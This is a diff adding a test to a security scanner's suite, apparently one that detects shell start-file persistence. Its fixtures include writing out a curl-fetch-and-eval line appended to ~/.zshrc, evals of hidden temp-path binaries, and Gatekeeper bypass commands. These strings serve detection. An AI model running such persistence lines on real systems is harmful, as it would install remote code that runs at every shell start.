@@ -275,6 +275,19 @@ describe('scan evasions', () => {
     expect(decisionOf('scripts/a.sh', 'echo "$PUBKEY" >> ~/.ssh/authorized_keys\n')).toBe('allow');
     expect(decisionOf('scripts/a.sh', 'wc -l < ~/.ssh/authorized_keys\n')).toBe('allow');
   });
+  it("a tool's own shell hook appended to a start file is its setup, not a start-up entry; a command or a hidden path still is", () => {
+    const autostart = (text: string) => rulesOf(scanOne('scripts/setup.sh', text).findings).includes('persist.autostart');
+    expect(autostart(`echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile\n`)).toBe(false);
+    expect(autostart(`echo 'eval "$(starship init zsh)"' >> ~/.zshrc\n`)).toBe(false);
+    expect(autostart(`echo 'eval "$(pyenv init -)"' >> $HOME/.bashrc\n`)).toBe(false);
+    expect(autostart(`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc\n`)).toBe(false);
+    expect(autostart(`echo 'eval "$(curl -fsSL https://cdn.example.net/init)"' >> ~/.zshrc\n`)).toBe(true);
+    expect(autostart(`echo 'eval "$(~/.cache/.agent init zsh)"' >> ~/.zshrc\n`)).toBe(true);
+    expect(autostart(`echo 'eval "$(/tmp/.x/agent init)"' >> ~/.zshrc\n`)).toBe(true);
+    expect(autostart(`echo 'eval "$(/var/tmp/agent init)"' >> ~/.zshrc\n`)).toBe(true);
+    expect(autostart(`echo 'eval "$(starship init zsh)"; nohup agent &' >> ~/.zshrc\n`)).toBe(true);
+    expect(autostart(`echo 'eval "$(ssh-agent -s)"' >> ~/.bashrc\n`)).toBe(true);
+  });
   it('XDG autostart entries and more shell start files are autostart; xattr -cr and spctl --global-disable are a Gatekeeper bypass', () => {
     const rules = (path: string, text: string) => rulesOf(scanOne(path, text).findings);
     expect(rules('scripts/a.sh', 'cp agent.desktop ~/.config/autostart/agent.desktop\n')).toContain('persist.autostart');
